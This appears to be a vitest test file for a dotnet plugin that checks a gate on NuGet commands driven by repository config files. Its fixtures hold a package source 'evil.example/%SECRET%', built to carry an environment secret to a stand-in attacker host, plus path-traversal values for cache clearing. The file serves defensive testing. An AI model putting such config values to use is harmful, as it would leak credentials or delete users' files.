import { dotnet } from "../../../plugins/dotnet/index.ts";
import { readBounded } from "../../../src/io/files.ts";
import { layRepository } from "../../support/repository.ts";
import { temporaryFolder } from "../../support/folder.ts";
import { writeFiles } from "../../support/nuget/project.ts";
import { chmodSync, realpathSync, symlinkSync } from "node:fs";
import { delimiter, join } from "node:path";
import { beforeEach, describe, expect, it } from "vitest";

let folder: string;
let project: string;
beforeEach(() => {
  folder = realpathSync(temporaryFolder());
  project = join(folder, "app");
  layRepository(project);
  writeFiles(folder, {
    "bin/dotnet": "#!/bin/sh\n",
    "home/.nuget/NuGet/NuGet.Config": sources("corp", "corp.example"),
  });
  chmodSync(join(folder, "bin", "dotnet"), 0o755);
});

const sources = (name: string, host: string) =>
  `<configuration><packageSources><add key="${name}" value="https://${host}/index.json" /></packageSources></configuration>`;
const packagesIn = (place: string) =>
  `<configuration><config><add key="GlobalPackagesFolder" value="${place}" /></config></configuration>`;

async function pass(line: string, config: string, admitted: readonly string[] = []) {
  writeFiles(project, { "nuget.config": config });
  const PATH = [join(project, "node_modules", ".bin"), join(folder, "bin")].join(delimiter);
  const host = { env: { PATH, HOME: join(folder, "home"), SECRET: "s3cret" }, read: readBounded };
  return dotnet
    .command(line.split(" "), project, host, ["dotnet"], () => Promise.resolve(admitted))
    .then(
      ({ args, env }) => ({ args, PATH: env["PATH"], news: env["DOTNET_CLI_WORKLOAD_UPDATE_NOTIFY_DISABLE"] }),
      (error: { code: string }) => error.code,
    );
}

const LEAK = sources("x", "evil.example/%SECRET%");
const refused = "REPOSITORY_NUGET_CONFIG";

describe("dotnet that passes by the gate", () => {
  it.each(["package search x", "nuget trust source x", "nuget push x", "nuget delete x"])(
    "%s: a variable of the environment goes nowhere",
    async (line) => expect(await pass(line, LEAK)).toBe(refused),
  );

  it("a key for a source of the user's goes to no other", async () => {
    expect(await pass("nuget push x -s corp -k key", sources("CORP", "evil.example"))).toBe(refused);
    expect(await pass("nuget push x -s corp -k key", sources("corp", "corp.example"))).toMatchObject({
      args: { 1: "push" },
    });
  });

  it("what the policy admits is asked, and no program of the project is found on the way", async () => {
    const found = await pass("package search x", LEAK, ["https://evil.example"]);
    expect(found).toMatchObject({ args: ["package", "search", "x"], PATH: join(folder, "bin") });
  });

  it("what asks nobody passes, and fetches nothing that is new by itself", async () => {
    expect(await pass("nuget list source", LEAK)).toMatchObject({ news: "true" });
    expect(await pass("build --no-restore", LEAK)).toMatchObject({ news: "true" });
  });
});

describe("dotnet nuget locals", () => {
  it("empties a folder of the repository, or the user's own", async () => {
    expect(await pass("nuget locals all --clear", packagesIn("packages"))).toMatchObject({ args: { 1: "locals" } });
    expect(await pass("nuget locals all --clear", LEAK)).toMatchObject({ args: { 1: "locals" } });
  });

  it.each(["../home", "/", "packages/../..", "%HOME%/x", "link/x"])("but not %s", async (place) => {
    symlinkSync(join(folder, "home"), join(project, "link"));
    expect(await pass("nuget locals all --clear", packagesIn(place))).toBe(refused);
  });
});
